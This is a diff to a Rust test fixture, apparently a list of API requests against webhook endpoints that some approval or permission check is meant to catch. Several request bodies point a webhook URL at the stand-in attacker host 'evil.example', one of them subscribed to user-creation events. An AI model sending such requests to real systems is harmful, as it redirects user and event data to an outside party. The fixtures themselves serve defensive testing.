@@ -343,23 +343,15 @@ pub const ASKED: &[Line] = &[
     (
         "create_webhook",
         "POST /api/v1/webhooks",
-        r#"{"name":"Own","url":"https://evil.example/","eventTypes":["com.qlik.core.user.created"],"enabled":true}"#,
+        r#"{"name":"Own","url":"https://evil.example/","eventTypes":["com.qlik.core.user.created"]}"#,
     ),
-    (
-        "put_webhook",
-        "PUT /api/v1/webhooks/<hook>",
-        r#"{"name":"Own","url":"https://evil.example/","enabled":true}"#,
-    ),
+    ("put_webhook", "PUT /api/v1/webhooks/<hook>", r#"{"name":"Own","url":"https://evil.example/"}"#),
     (
         "patch_webhook",
         "PATCH /api/v1/webhooks/<hook>",
         r#"[{"op":"replace","path":"/url","value":"https://evil.example/"}]"#,
     ),
-    (
-        "resend_delivery",
-        "POST /api/v1/webhooks/<hook>/deliveries/000000000000000000000000/actions/resend",
-        "",
-    ),
+    ("resend_delivery", "POST /api/v1/webhooks/<hook>/deliveries/<delivery>/actions/resend", ""),
     ("delete_webhook", "DELETE /api/v1/webhooks/<hook>", ""),
     ("log_in_by_token: with what is no such token", "POST /login/jwt-session", "{}"),
     (
